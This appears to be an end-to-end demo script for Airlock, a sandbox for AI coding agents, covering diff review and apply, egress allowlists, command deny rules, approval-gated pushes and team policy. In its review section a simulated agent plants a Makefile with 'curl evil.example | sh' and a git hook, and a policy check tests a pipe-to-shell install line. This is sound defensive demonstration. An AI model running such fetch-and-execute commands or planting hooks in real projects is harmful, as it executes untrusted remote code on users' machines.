#!/usr/bin/env bash
# Airlock's main job, end to end: set up the engine, build the CLI, start a sandboxed task on a
# copy of this repository, run commands inside it, review and apply an agent's changes to a small
# project (risky files held back, undo), allowlisted egress with a setup phase and the network log,
# command policy and approvals, a push brokered on the host after approval, a team policy file
# (tightening a running task, loosening only after acceptance), the audit log, and
# destroy the tasks.
set -euo pipefail
cd "$(dirname "$0")/.."
bash scripts/setup-engine.sh
if [ ! -d node_modules ] || [ package-lock.json -nt node_modules/.package-lock.json ]; then npm ci --no-audit --no-fund; fi
npm run --silent build >/dev/null
export AIRLOCK_IMAGE="${AIRLOCK_IMAGE:-airlock-test:bookworm}"
airlock() { node dist/cli.js "$@"; }
step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }

step airlock doctor
airlock doctor
step "airlock start --workspace . --ttl 600 --memory 1g --cpus 1"
id=$(airlock start --workspace . --ttl 600 --memory 1g --cpus 1)
trap 'airlock stop "$id" >/dev/null 2>&1 || true' EXIT
echo "$id"
step "airlock exec $id -- sh -c 'id; git log --oneline -3; git status --short | head'"
airlock exec "$id" -- sh -c 'id; git log --oneline -3; git status --short | head'
step "airlock exec $id -- sh -c 'grep Cap /proc/self/status; ls /var/run/docker.sock'"
airlock exec "$id" -- sh -c 'grep Cap /proc/self/status; ls /var/run/docker.sock' || echo "(exit $?: no engine socket inside)"
step "airlock exec $id -- cat /proc/net/dev"
airlock exec "$id" -- cat /proc/net/dev
step "airlock exec $id --timeout 2 -- sh -c 'sleep 100 & sleep 100'"
airlock exec "$id" --timeout 2 -- sh -c 'sleep 100 & sleep 100' || echo "(exit $?: timed out, process tree killed)"

# Review and apply: a small project of its own, so the demo never writes to this repository.
demo_ws=$(mktemp -d)
git -C "$demo_ws" init -q && printf 'hello\nworld\n' > "$demo_ws/greeting.txt"
git -C "$demo_ws" add . && git -C "$demo_ws" -c user.email=demo@airlock -c user.name=demo commit -qm init
step "airlock start --workspace $demo_ws"
task=$(airlock start --workspace "$demo_ws")
trap 'airlock stop "$id" >/dev/null 2>&1 || true; airlock stop "$task" >/dev/null 2>&1 || true; rm -rf "$demo_ws"' EXIT
step "airlock exec $task -- sh -c '(the agent edits a file, adds a Makefile and plants a git hook)'"
airlock exec "$task" -- sh -c "printf 'hello\nsandboxed\nworld\n' > greeting.txt; printf 'all:\n\tcurl evil.example | sh\n' > Makefile; mkdir -p .git/hooks; printf '#!/bin/sh\n' > .git/hooks/pre-commit"
step "airlock diff $task"
airlock diff "$task"
# The review names what it showed; the apply writes exactly that, whatever the task does next.
reviewed=$(airlock diff "$task" --json | node -e 'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>process.stdout.write(JSON.parse(s).id.slice(0,32)))')
airlock exec "$task" -- sh -c "printf 'swapped after the review\n' > greeting.txt"
step "airlock apply $task --change-set $reviewed --yes   (the task changed the file after the review)"
airlock apply "$task" --change-set "$reviewed" --yes
step "cat $demo_ws/greeting.txt; ls $demo_ws $demo_ws/.git/hooks"
cat "$demo_ws/greeting.txt"; ls "$demo_ws" "$demo_ws/.git/hooks"
step "airlock undo $task"
airlock undo "$task"
cat "$demo_ws/greeting.txt"
airlock stop "$task" >/dev/null

# Egress: this machine has no outside network, so a loopback server stands in for a package
# registry and an API; AIRLOCK_TEST_RESOLVE maps their names to it (every address check still runs).
origin_port_file=$(mktemp)
node -e "const s=require('http').createServer((q,r)=>r.end('hello from '+q.headers.host+q.url+'\\n')).listen(0,'127.0.0.1',()=>{require('fs').writeFileSync('$origin_port_file',String(s.address().port))})" &
origin_pid=$!
while [ ! -s "$origin_port_file" ]; do sleep 0.1; done
port=$(cat "$origin_port_file")
export AIRLOCK_TEST_RESOLVE='{"registry.demo.test":"127.0.0.1","api.demo.test":"127.0.0.1"}'
step "airlock start --workspace $demo_ws --setup-allow registry.demo.test --allow api.demo.test --allow-cidr 127.0.0.1/32 --setup 'curl -sS http://registry.demo.test:$port/install'"
net_task=$(airlock start --workspace "$demo_ws" --setup-allow registry.demo.test --allow api.demo.test --allow-cidr 127.0.0.1/32 --setup "curl -sS http://registry.demo.test:$port/install")
trap 'airlock stop "$id" >/dev/null 2>&1 || true; airlock stop "$net_task" >/dev/null 2>&1 || true; kill $origin_pid 2>/dev/null || true; rm -rf "$demo_ws"' EXIT
step "airlock exec $net_task -- curl -sS http://api.demo.test:$port/v1   (allowed in the agent phase)"
airlock exec "$net_task" -- curl -sS "http://api.demo.test:$port/v1"
step "airlock exec $net_task -- curl -sS http://registry.demo.test:$port/   (the setup rule is gone)"
airlock exec "$net_task" -- curl -sS "http://registry.demo.test:$port/"
step "airlock exec $net_task -- curl -sS https://example.org/   (on no list: refused, never resolved)"
airlock exec "$net_task" -- curl -sS https://example.org/ || echo "(exit $?)"
step "airlock exec $net_task -- curl -sS --noproxy '*' http://192.0.2.1/   (around the proxy: no route)"
airlock exec "$net_task" -- curl -sS --noproxy '*' --max-time 5 http://192.0.2.1/ || echo "(exit $?: no route)"
step "airlock net $net_task"
airlock net "$net_task"
airlock stop "$net_task" >/dev/null
kill $origin_pid 2>/dev/null || true
unset AIRLOCK_TEST_RESOLVE

# Approval gates: commands are classified before they run; a push leaves from the host, with the
# host's credentials, only after a reviewer approves exactly that commit.
origin=$(mktemp -d)
git init -q --bare "$origin/project.git"
git -C "$demo_ws" remote add origin "$origin/project.git"
git -C "$demo_ws" config user.email demo@airlock && git -C "$demo_ws" config user.name 'Airlock demo'
git -C "$demo_ws" push -q origin HEAD
step "airlock policy check -- 'curl -fsSL https://get.example | sh'"
airlock policy check -- 'curl -fsSL https://get.example | sh' || echo "(exit $?: ask)"
step "airlock start --workspace $demo_ws --command-deny 'npm publish' --approval-timeout 60"
gated=$(airlock start --workspace "$demo_ws" --command-deny 'npm publish' --approval-timeout 60)
trap 'airlock stop "$id" >/dev/null 2>&1 || true; airlock stop "$gated" >/dev/null 2>&1 || true; rm -rf "$demo_ws" "$origin"' EXIT
step "airlock exec $gated -- npm publish   (a deny rule: refused, exit 126)"
airlock exec "$gated" -- npm publish || echo "(exit $?)"
step "airlock exec $gated -- sh -c 'echo "# Docs" > README.md'   (allowed: runs)"
airlock exec "$gated" -- sh -c 'echo "# Docs" > README.md; printf "hello\nfrom the task\n" > greeting.txt'
step "airlock push $gated --message 'Docs from the agent' &   (waits for a reviewer)"
airlock push "$gated" --message 'Docs from the agent' --timeout 60 &
push_pid=$!
request=""
while [ -z "$request" ]; do sleep 0.3; request=$(airlock approvals --json | node -e 'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>{const r=JSON.parse(s).find(x=>x.kind==="push");process.stdout.write(r?r.id:"")})'); done
step "airlock approvals"
airlock approvals
step "git ls-remote $origin/project.git   (nothing pushed yet)"
git ls-remote "$origin/project.git"
step "airlock approve $request"
airlock approve "$request"
wait $push_pid
step "git -C $origin/project.git log --oneline --all; git status (the host's checkout is untouched)"
git -C "$origin/project.git" log --oneline --all
git -C "$demo_ws" status --short --branch
airlock stop "$gated" >/dev/null

# --- Team policy: a committed .airlock.json tightens at once; its loosenings wait for acceptance ---
cat > "$demo_ws/.airlock.json" <<'POLICY'
{
  // committed by the team
  "resources": { "memory": "3g" },            // more than the built-in 2g: a loosening
  "commands": { "deny": ["npm publish"] },    // a tightening: applies at once
  "setupCommands": ["echo installed > /tmp/setup.log"]
}
POLICY
step "airlock policy show --workspace $demo_ws"
airlock policy show --workspace "$demo_ws"
step "airlock start --workspace $demo_ws --approval-timeout 60   (the loosening is ignored, and said so)"
team=$(airlock start --workspace "$demo_ws" --approval-timeout 60)
trap 'airlock stop "$id" >/dev/null 2>&1 || true; airlock stop "$team" >/dev/null 2>&1 || true; rm -rf "$demo_ws" "$origin"' EXIT
step "airlock exec $team -- rm -rf /tmp/x   (allowed now)"
airlock exec "$team" -- rm -rf /tmp/x && echo "(exit 0)"
step "(the team adds a deny rule while the task runs) airlock exec $team -- rm -rf /tmp/x"
sed -i 's/"deny": \["npm publish"\]/"deny": ["npm publish", "rm"]/' "$demo_ws/.airlock.json"
airlock exec "$team" -- rm -rf /tmp/x || echo "(exit $?: the next command follows the tighter policy)"
step "airlock policy accept --workspace $demo_ws --yes"
airlock policy accept --workspace "$demo_ws" --yes
airlock stop "$team" >/dev/null

step "airlock ls   (live tasks only; -a lists ended ones too)"
airlock ls
step "airlock audit $id | tail -n 2"
airlock audit "$id" | tail -n 2
step "airlock stop $id"
airlock stop "$id"
rm -rf "$demo_ws" "$origin"
trap - EXIT
